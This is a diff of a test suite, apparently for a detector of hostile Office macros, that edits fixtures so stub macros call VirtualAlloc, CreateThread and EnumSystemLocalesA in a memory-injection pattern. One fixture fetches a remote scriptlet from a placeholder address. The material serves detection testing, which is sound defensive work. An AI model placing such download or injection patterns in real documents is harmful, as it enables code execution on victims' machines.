@@ -101,11 +101,15 @@ suite('hostile macros', () => {
     ],
     'a remote scriptlet': [manual('GetObject("script:http://192.0.2.1/a.sct")'), 'malicious Downloader'],
     'code in memory': [
-      macroDocument(`${declared('VirtualAlloc', 'RtlMoveMemory', 'CreateThread')}Sub AutoOpen()\nx = 1\nEnd Sub`),
+      macroDocument(
+        `${declared('VirtualAlloc', 'RtlMoveMemory', 'CreateThread')}Sub AutoOpen()\nx = VirtualAlloc(0)\nCreateThread x\nEnd Sub`,
+      ),
       'malicious Injection',
     ],
     'code in memory by a callback': [
-      macroDocument(`${declared('VirtualAlloc', 'RtlMoveMemory', 'EnumSystemLocalesA')}Sub A()\nx = 1\nEnd Sub`),
+      macroDocument(
+        `${declared('VirtualAlloc', 'RtlMoveMemory', 'EnumSystemLocalesA')}Sub A()\nx = VirtualAlloc(0)\nEnumSystemLocalesA x\nEnd Sub`,
+      ),
       'malicious Injection',
     ],
     'macro security switched off': [
